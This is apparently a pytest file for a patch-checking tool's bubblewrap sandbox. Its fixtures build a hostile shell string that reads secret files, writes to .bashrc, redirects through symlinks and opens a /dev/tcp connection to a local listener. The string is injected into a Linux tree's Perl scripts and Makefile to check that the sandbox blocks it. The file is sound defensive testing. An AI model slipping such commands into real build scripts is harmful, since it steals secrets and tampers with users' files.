"""What a tree's own scripts cannot do in the sandbox, what they still can, and that patchbot works without it."""

from __future__ import annotations

import json
import os
import shutil
import socket
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from subjects import make_subject
from tinytree import TINY, build, commit

from patchbot.build.kbuild import Kbuild, configure, write_anew
from patchbot.build.toolchain import Compiler
from patchbot.checking.check import load
from patchbot.cli import main
from patchbot.config import AUTO, OFF, REQUIRED
from patchbot.errors import UserError
from patchbot.git.repo import Repo
from patchbot.run import run
from patchbot.sandbox import Sandbox, borrowed

WHY_NOT = Sandbox().lacking()
needs_bwrap = pytest.mark.skipif(bool(WHY_NOT), reason=WHY_NOT)
needs_make = pytest.mark.skipif(not shutil.which("make") or not shutil.which("gcc"), reason="make or gcc is missing")


@dataclass
class Victim:
    """What a hostile script is after: a listener on this machine, and a home with a secret."""

    home: Path
    listener: socket.socket

    def attack(self) -> str:
        """Return the shell script: it prints what it got."""
        port = self.listener.getsockname()[1]
        return (
            f"cat {self.home}/secret ~/secret; ls -a {self.home}; echo x > {self.home}/written;"
            f" echo x >> {self.home}/.bashrc; umount {self.home}; ln -sf {self.home} /tmp/h; echo x > /tmp/h/written;"
            f" exec 3<>/dev/tcp/127.0.0.1/{port} && echo x >&3"
        )

    def check_unharmed(self, said: str) -> None:
        """Fail if the script reached anything."""
        assert "s3cret" not in said
        assert not (self.home / "written").exists()
        assert (self.home / ".bashrc").read_text() == "mine\n"
        self.listener.settimeout(0)
        with pytest.raises(BlockingIOError):
            self.listener.accept()


@pytest.fixture
def victim(sealed: Path) -> Iterator[Victim]:
    (sealed / "secret").write_text("s3cret\n")
    (sealed / ".bashrc").write_text("mine\n")
    with socket.create_server(("127.0.0.1", 0)) as listener:
        yield Victim(sealed, listener)


def hostile_perl(victim: Victim, then: bytes) -> bytes:
    """Return a script of the tree that attacks first and then does what it should."""
    head, _, rest = then.partition(b"\n")
    return head + b"\nsystem('bash', '-c', q{" + victim.attack().encode() + b"});\n" + rest


def patchbot(capfd, *argv: object, code: int = 0) -> tuple[str, str]:
    got = main([str(a) for a in argv])
    said = capfd.readouterr()
    assert got == code, said.out + said.err
    return said.out, said.err


@pytest.fixture
def hostile(victim: Victim, tmp_path: Path) -> Path:
    """A work tree whose scripts and Makefile attack."""
    scripts = {
        f"scripts/{name}": hostile_perl(victim, (TINY / "scripts" / name).read_bytes())
        for name in ("checkpatch.pl", "get_maintainer.pl")
    }
    escaped = victim.attack().replace("$", "$$").encode()
    makefile = b"SHELL := /bin/bash\n$(info attack: $(shell (" + escaped + b") 2>&1))\n"
    return build(
        tmp_path / "linux", {**scripts, "Makefile": makefile + (TINY / "Makefile").read_bytes()}
    ).git_dir.parent


def run_attack(victim: Victim, sandbox: Sandbox, where: Path) -> str:
    inside = sandbox.around(where, [where])
    done = run(["bash", "-c", f"({victim.attack()}); echo ok > own; ls"], cwd=where, check=False, inside=inside)
    assert (where / "own").read_text() == "ok\n"
    return (done.stdout + done.stderr).decode()


@needs_bwrap
def test_a_script_reaches_neither_the_network_nor_the_home(victim, tmp_path):
    said = run_attack(victim, Sandbox(), tmp_path)
    victim.check_unharmed(said)


def test_the_same_script_does_harm_without_a_sandbox(victim, tmp_path):
    assert "s3cret" in run_attack(victim, Sandbox(OFF), tmp_path)
    assert (victim.home / "written").exists()
    victim.listener.settimeout(5)
    victim.listener.accept()[0].close()


@needs_bwrap
@pytest.mark.parametrize("variable", ["XDG_CONFIG_HOME", "XDG_DATA_HOME", "XDG_RUNTIME_DIR", "TMPDIR"])
def test_folders_elsewhere_that_are_the_persons_are_hidden(variable, tmp_path, monkeypatch):
    place, own = tmp_path / "place", tmp_path / "own"
    for folder in (place, own):
        folder.mkdir()
    (place / "secret").write_text("s3cret\n")
    monkeypatch.setenv(variable, str(place))
    done = run(["cat", place / "secret"], check=False, inside=Sandbox().around(own, [own]))
    assert done.returncode
    assert b"s3cret" not in done.stdout


@needs_bwrap
def test_what_is_not_named_cannot_be_written(tmp_path):
    own, other = tmp_path / "own", tmp_path / "other"
    for folder in (own, other):
        folder.mkdir()
    script = f"echo x > {own}/x; echo x > {other}/x; echo x > /usr/x; echo x > /etc/x"
    inside = Sandbox().around(own, [own], [other])
    run(["sh", "-c", script], check=False, inside=inside)
    assert (own / "x").exists()
    assert not list(other.iterdir())
    assert not Path("/usr/x").exists()
    assert not Path("/etc/x").exists()


@needs_bwrap
def test_a_place_that_is_reached_by_links_is_there(sealed, tmp_path):
    real = tmp_path / "disk"
    real.mkdir()
    (sealed / ".cache").symlink_to(real)
    own = sealed / ".cache/patchbot"
    own.mkdir()
    run(["sh", "-c", f"echo x > {own}/x"], inside=Sandbox().around(own, [own]))
    assert (real / "patchbot/x").exists()


@needs_bwrap
def test_programs_below_the_home_work_and_what_lies_beside_them_is_hidden(sealed, tmp_path, monkeypatch):
    own = tmp_path / "own"
    toolchain, local, shims = sealed / "opt/gcc-99/bin", sealed / ".local/bin", sealed / ".pyenv/shims"
    for folder in (own, toolchain, local, shims, sealed / "opt/gcc-99/lib", sealed / ".pyenv/versions"):
        folder.mkdir(parents=True)
    (sealed / ".local/share").mkdir()
    (sealed / ".local/share/keyring").write_text("s3cret\n")
    (sealed / "opt/gcc-99/lib/specs").write_text("specs\n")
    (sealed / ".pyenv/versions/global").write_text("3.99\n")
    programs = {
        toolchain / "my-gcc": f"cat {sealed}/opt/gcc-99/lib/specs",
        local / "tool": f"cat {sealed}/.local/share/keyring; echo tool",
        shims / "python": f"cat {sealed}/.pyenv/versions/global",
    }
    for path, script in programs.items():
        path.write_text(f"#!/bin/sh\n{script}\n")
        path.chmod(0o755)
    (local / "cc").symlink_to("my-cc")
    (local / "my-cc").symlink_to(toolchain / "my-gcc")
    monkeypatch.setenv("PATH", f"{local}:{shims}:{sealed}:{os.environ['PATH']}")
    (sealed / "secret").write_text("s3cret\n")
    inside = Sandbox().around(own, [own], (), ["cc"])
    done = run(["sh", "-c", f"cc; tool; python; cat {sealed}/secret"], check=False, inside=inside)
    assert done.stdout == b"specs\ntool\n3.99\n"


@needs_bwrap
@pytest.mark.skipif(not shutil.which("ccache"), reason="apt-get install ccache")
def test_ccache_keeps_its_objects(sealed, tmp_path, monkeypatch):
    monkeypatch.setenv("CCACHE_DIR", str(sealed / "objects"))
    from patchbot import sandbox

    sandbox.ccache_folder.cache_clear()
    (tmp_path / "a.c").write_text("int a;\n")
    inside = Sandbox().around(tmp_path, [tmp_path], (), ["ccache", "gcc"])
    run(["ccache", "gcc", "-c", "a.c", "-o", "a.o"], cwd=tmp_path, inside=inside)
    sandbox.ccache_folder.cache_clear()
    assert [p for p in (sealed / "objects").rglob("*") if p.is_file()]


@needs_bwrap
def test_what_it_started_ends_with_it(tmp_path):
    from patchbot.errors import ToolError

    inside = Sandbox().around(tmp_path, [tmp_path])
    run(["sh", "-c", "(sleep 2; echo late > late) & echo now"], cwd=tmp_path, inside=inside)
    with pytest.raises(ToolError, match=r"sh -c .* took longer"):
        run(["sh", "-c", "sleep 60; echo late > late"], cwd=tmp_path, inside=inside, timeout=1)
    run(["sleep", "2"])
    assert not (tmp_path / "late").exists()


@needs_bwrap
@needs_make
@pytest.mark.skipif(not shutil.which("pahole"), reason="apt-get install pahole")
def test_a_hostile_tree_gets_its_results_and_nothing_else(hostile, victim, capfd, monkeypatch):
    monkeypatch.chdir(hostile)
    patchbot(capfd, "generate", "-q")
    out, _ = patchbot(capfd, "check", "--json", "--only", "checkpatch,build", "--patches", "1-2")
    document = json.loads(out)
    results = document["results"]
    assert len(results) == 4
    assert document["worst"] in ("PASS", "WARN", "SKIP"), results
    logs = "".join(Path(r["log"]).read_text(errors="replace") for r in results if r["log"])
    assert "attack: " in logs
    patchbot(capfd, "mail", "-o", "out")
    victim.check_unharmed(logs)


def test_without_bwrap_everything_works_and_says_so_when_asked(hostile, victim, capfd, monkeypatch, tmp_path):
    folder = tmp_path / "bin"
    folder.mkdir()
    for place in map(Path, os.environ["PATH"].split(os.pathsep)):
        for program in place.iterdir() if place.is_dir() else ():
            if program.name != "bwrap" and not (folder / program.name).is_symlink():
                (folder / program.name).symlink_to(program.absolute())
    monkeypatch.setenv("PATH", str(folder))
    monkeypatch.chdir(hostile)
    patchbot(capfd, "generate", "-q")
    argv = ["check", "--only", "checkpatch", "--patches", "1"]
    _, err = patchbot(capfd, *argv)
    assert "sandbox" not in err
    _, err = patchbot(capfd, *argv, "-v")
    assert err.count("run without a sandbox: bwrap is not installed (Debian: bubblewrap)") == 1
    assert "without a sandbox: bwrap is not installed" in patchbot(capfd, "doctor")[0]
    (tmp_path / "patchbot.toml").write_text('[run]\nsandbox = "required"\n')
    argv += ["--config", str(tmp_path / "patchbot.toml")]
    _, err = patchbot(capfd, *argv, code=2)
    assert '[run] sandbox = "required", but bwrap is not installed (Debian: bubblewrap)' in err
    assert "required" in patchbot(capfd, "mail", "-o", "out", *argv[-2:], code=2)[1]
    assert "required" in patchbot(capfd, "doctor", *argv[-2:])[0]


@needs_bwrap
def test_a_bwrap_that_does_not_work_here_is_as_good_as_none(tmp_path, monkeypatch):
    bwrap = tmp_path / "bwrap"
    bwrap.write_text("#!/bin/sh\necho 'bwrap: No permissions to create new namespace' >&2\nexit 1\n")
    bwrap.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path}:{os.environ['PATH']}")
    assert Sandbox().lacking() == "bwrap does not work here: bwrap: No permissions to create new namespace"
    assert Sandbox().around(tmp_path, [tmp_path]) == []
    with pytest.raises(UserError, match="No permissions"):
        Sandbox(REQUIRED).around(tmp_path, [tmp_path])


@needs_bwrap
def test_a_found_file_cannot_switch_it_off(hostile, victim, capfd, monkeypatch):
    monkeypatch.chdir(hostile)
    (hostile / "patchbot.toml").write_text('[run]\nsandbox = "off"\n')
    patchbot(capfd, "generate", "-q")
    out, err = patchbot(capfd, "check", "--only", "checkpatch", "--patches", "1", "--json")
    assert "run.sandbox is ignored" in err
    victim.check_unharmed(Path(json.loads(out)["results"][0]["log"]).read_text())
    patchbot(capfd, "trust", "patchbot.toml")
    out, _ = patchbot(capfd, "check", "--only", "checkpatch", "--patches", "1", "--json", "--full")
    assert (victim.home / "written").exists()


@needs_bwrap
@needs_make
def test_a_link_that_a_makefile_leaves_leads_no_write_out(victim, tiny, tmp_path):
    source = tiny.git_dir.parent
    mine = victim.home / ".bashrc"
    names = (".patchbot-fragment", ".patchbot-list.mk", ".patchbot-configured", ".patchbot-building", "done")
    with open(source / "Makefile", "a") as makefile:
        for name in names:
            makefile.write(f"$(shell ln -sf {mine} $(output)/{name})\n")
    kbuild = Kbuild(source, tmp_path / "out", Compiler("gcc", "", ""), 1)
    for _ in range(2):
        configure(kbuild, {"BPF_SYSCALL": "y"}, {"BPF_SYSCALL"}, tmp_path / "log")
    write_anew(tmp_path / "out/done", "x")
    assert mine.read_text() == "mine\n"


@needs_bwrap
def test_checkpatch_sees_commits_of_a_repository_in_the_home_that_borrows(sealed, tmp_path):
    first = build(sealed / "first")
    sha = first.resolve("HEAD")[:12]
    second = sealed / "second"
    run(["git", "clone", "-q", "--shared", first.git_dir.parent, second], env={"GIT_ALLOW_PROTOCOL": "file"})
    script = b'my $l = `git log -1 --format=%%s %s 2>&1`; print STDERR "<$l>\\n";\n' % sha.encode()
    head, _, rest = (TINY / "scripts/checkpatch.pl").read_bytes().partition(b"\n")
    commit(second, "script", {"scripts/checkpatch.pl": head + b"\n" + script + rest})
    repo = Repo.open(second)
    where = tmp_path / "where"
    where.mkdir()
    subject = make_subject(repo, "HEAD", [("lib: Change\n\nBecause.\n", {"lib/x.c": b"int x;\n"})], where)
    assert first.objects in borrowed(repo.objects)
    check = load("checkpatch").patch
    assert check is not None
    outcome = check(subject, subject.items[0])
    assert outcome.log is not None
    assert "<Linux 7.99" in outcome.log.read_text()


@pytest.mark.parametrize(("value", "hint"), [('"of"', "did you mean off"), ("true", "must be one of auto, off, req")])
def test_a_misspelt_mode_is_an_error(value, hint, tmp_path, capfd):
    (tmp_path / "patchbot.toml").write_text(f"[run]\nsandbox = {value}\n")
    assert hint in patchbot(capfd, "checks", "-C", tmp_path, code=2)[1]
    (tmp_path / "patchbot.toml").write_text('[run]\nsandbx = "auto"\n')
    assert "did you mean sandbox?" in patchbot(capfd, "checks", "-C", tmp_path, code=2)[1]
    assert (AUTO, OFF, REQUIRED) == ("auto", "off", "required")
